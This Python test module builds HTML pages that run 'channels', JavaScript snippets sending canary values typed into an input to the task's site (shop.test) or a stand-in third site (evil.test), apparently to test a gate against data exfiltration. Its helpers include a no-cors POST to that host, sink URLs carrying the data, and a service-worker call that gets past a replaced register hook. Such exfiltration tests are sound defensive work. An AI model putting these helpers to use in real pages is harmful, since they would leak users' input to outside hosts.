"""A page with an input and a button, and the code of one channel or several behind both."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from tests.channels.canary import canary
from tests.channels.channel import Case, File, Target

FIRST, THIRD = "shop.test", "evil.test"
"""The task's site and another one."""

TURNS = ("typed", "pressed")
"""What sets a channel off: a key in the input, or the press of the button."""

_HELPERS = """
let TURN = "typed";
const runs = [];
const set = (turn, text) => { TURN = turn; const values = text.split(" ");
  runs.forEach(([name, run], place) => { const failed = (e) => { window.problems[name] = String(e); };
    try { run(values[place]).catch(failed); } catch (e) { failed(e); } }); };
window.problems = {};
const add = (tag, more = {}, parent = document.body) => { const e = document.createElement(tag);
  for (const [key, value] of Object.entries(more)) e.setAttribute(key, value); parent.append(e); return e; };
const head = (tag, more) => add(tag, more, document.head);
const form = (more, value, parent = document.body) => { const f = add("form", more, parent);
  add("input", {name: "d", value}, f); return f; };
const link = (more) => { const a = add("a", more); a.textContent = "x"; a.click(); };
const style = (text) => { head("style").textContent = text; };
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], {type}));
const rest = (ms) => new Promise((done) => setTimeout(done, ms));
const sent = (to, v) => `fetch("${to}", {method: "POST", mode: "no-cors", body: "${v}"}).catch(() => 0);`;
const frame = () => { const f = add("iframe"); return f.contentWindow; };
async function worker(folder) {     // past whoever replaced navigator.serviceWorker.register
  const own = ServiceWorkerContainer.prototype.register;
  const reg = await own.call(navigator.serviceWorker, folder + "sw.js", {scope: folder});
  const w = reg.installing || reg.waiting || reg.active;
  if (w.state !== "activated") await new Promise((done) => w.addEventListener("statechange",
    () => w.state === "activated" && done()));
  return reg; }
"""

_RUN = """{ const TO = "@TO@", HOST = "@HOST@", WS = TO.replace("http", "ws"),
  u = (name, v) => `${TO}/sink/${name}?d=${v}`, at = (file) => `@FOLDER@${TURN}/${file}`, sw = () => worker(at(""));
runs.push(["@CASE@", async (v) => { @RUN@
}]); }
"""

_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Form</title><link rel="icon" href="data:,">
<script>@HELPERS@@RUNS@</script></head><body>@HTML@
@KNOWN@<input id="v" autocomplete="off"><button id="b" type="button">Go</button>
<script>
document.getElementById("v").addEventListener("keyup", (e) => set("typed", e.target.value));
document.getElementById("b").addEventListener("click", () => set("pressed", document.getElementById("v").value));
</script></body></html>"""


@dataclass(frozen=True, slots=True)
class Ground:
    """Where the sites are: origins without a slash at the end."""

    first: str = f"https://{FIRST}"
    third: str = f"https://{THIRD}"

    def to(self, target: Target) -> str:
        return self.third if target is Target.THIRD else self.first


Sheet = tuple[Case, ...]
"""The cases that share a page."""

MOST = 12
"""Cases on one page: a page costs far more than a channel."""


def sheets(cases: Iterable[Case]) -> list[Sheet]:
    """Cases on as few pages as they bear."""
    cases = list(cases)
    found: list[Sheet] = [(case,) for case in cases if case.channel.alone]
    for serves in (False, True):
        shared = [case for case in cases if not case.channel.alone and case.channel.serves is serves]
        found += [tuple(shared[start:start + MOST]) for start in range(0, len(shared), MOST)]
    return found


def values(case: Case) -> dict[str, str]:
    """The canary of each turn."""
    return {turn: canary(case.number * 2 + place) for place, turn in enumerate(TURNS)}


def typed_into(sheet: Sheet, turn: str) -> str:
    """What is to be typed into a page for a turn."""
    return " ".join(values(case)[turn] for case in sheet)


def address(sheet: Sheet, ground: Ground) -> str:
    """Where a page is."""
    return f"{ground.first}{_folder(sheet[0])}"


def served(sheet: Sheet, ground: Ground) -> dict[str, File]:
    """Everything of a page by path."""
    runs = "".join(_filled(_RUN.replace("@RUN@", case.channel.run), case, ground, "") for case in sheet)
    page = (_PAGE.replace("@HELPERS@", _HELPERS).replace("@RUNS@", runs)
            .replace("@KNOWN@", _links(sheet)).replace("@HTML@", "".join(case.channel.html for case in sheet)))
    headers = tuple((name, _filled(text, sheet[0], ground, "")) for name, text in sheet[0].channel.headers)
    found = {_folder(sheet[0]): File(page, headers=headers)}
    for case in sheet:
        for turn, value in values(case).items():
            for name, file in case.channel.files.items():
                found[f"{_folder(case)}{turn}/{name}"] = File(
                    _filled(file.body, case, ground, value), file.type,
                    tuple((key, _filled(text, case, ground, value)) for key, text in file.headers))
    return found


def _links(sheet: Sheet) -> str:
    """The addresses of all files, as the site's own server wrote them: the gate lets a page read those."""
    return "".join(f'<a href="{_folder(case)}{turn}/{name}"></a>'
                   for case in sheet for turn in TURNS for name in case.channel.files)


def _folder(case: Case) -> str:
    return f"/c/{case.name}/"


def _filled(text: str, case: Case, ground: Ground, value: str) -> str:
    to = ground.to(case.target)
    marks = {"@V@": value, "@TO@": to, "@HOST@": to.split("//")[1].split(":")[0], "@FOLDER@": _folder(case),
             "@FIRST@": ground.first, "@THIRD@": ground.third, "@CASE@": case.name}
    for mark, with_ in marks.items():
        text = text.replace(mark, with_)
    return text
